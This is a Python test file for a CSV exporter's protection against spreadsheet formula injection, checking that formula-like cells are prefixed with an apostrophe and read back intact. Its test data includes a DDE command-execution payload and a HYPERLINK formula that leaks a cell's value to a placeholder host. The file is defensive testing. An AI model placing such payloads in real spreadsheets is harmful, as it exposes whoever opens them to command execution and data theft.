"""CSV exports: no text is a formula, numbers stay numbers, and what was written is read again."""

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from generators.input_files.csv_export import guard_text, write_csv
from generators.input_files.csv_jsonl import read_csv

FORMULAS = [
    "=1+1",
    "+1",
    "-40 °C on a thermometer",
    "@home",
    "\tfog",
    "\rfog",
    "\nfog",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe631",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://a.example?leak="&A1, "more")',
]
TEXTS = [
    "",
    "'",
    "'=1",
    "''+1",
    "fog",
    "a=b",
    "5-3",
    "\u2212 40",
    "'\tfog",
    "a,b;=1",
    'the word "=1"',
    "'\u65e5\u672c'",
]


def write(*rows: list[object]) -> str:
    out = io.StringIO(newline="")
    write_csv(out, ["name", "note"], rows)
    return out.getvalue()


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_has_an_apostrophe_before_it(text: str) -> None:
    [_, [name, note]] = csv.reader(io.StringIO(write([text, "fog"]), newline=""))
    assert (name, note) == ("'" + text, "fog")


@pytest.mark.parametrize("text", TEXTS)
def test_other_text_is_as_it_was(text: str) -> None:
    assert guard_text(text) == text


def test_numbers_stay_numbers() -> None:
    rows = [[-12.5, -3], [Decimal("-0.10"), None], [1e-12, True]]
    assert write(*rows).splitlines()[1:] == ["-12.5,-3", '-0.10,""', "1e-12,True"]
    frame = pd.read_csv(io.StringIO(write(*rows)))
    assert frame["name"].tolist() == [-12.5, -0.1, 1e-12]


def test_text_cannot_leave_its_cell() -> None:
    line = write(['fog","=1+1', "fog;=1+1"]).splitlines()[1]
    assert line == '"fog"",""=1+1","fog;=1+1"'


STORED = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
ODD = st.lists(st.sampled_from([*"'=+-@\t\r\n ,;\"a\uff1d\ufeff"]), max_size=5).map("".join)


@given(name=STORED | ODD, note=STORED | ODD)
@example(name="'=1", note="=1")
@example(name="'", note="''=")
@example(name="guarded_columns", note="name")
def test_restorable_file_is_read_as_it_was_written(name: str, note: str) -> None:
    out = io.StringIO(newline="")
    write_csv(out, ["key", "name", "note"], [[1, name, note], [2, "plain", "plain"]], restorable=True)
    table = read_csv(out.getvalue().encode())
    assert table.columns == ["key", "name", "note"]
    assert [tuple(record.cells.values()) for record in table.records] == [("1", name, note), ("2", "plain", "plain")]


@pytest.mark.parametrize("text", [*FORMULAS, *TEXTS[1:]])
def test_text_of_another_program_is_left_alone(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["name", "note"], [text, "x"], ["'" + text, "x"]])
    assert [record.cells["name"] for record in read_csv(out.getvalue().encode()).records] == [text, "'" + text]


def test_apostrophe_that_a_person_removed_is_not_missed() -> None:
    content = b"name,guarded_columns,other\n=1,name,'=2\n'=1,name gone,\n"
    assert [dict(record.cells) for record in read_csv(content).records] == [
        {"name": "=1", "other": "'=2"},
        {"name": "=1", "other": ""},
    ]
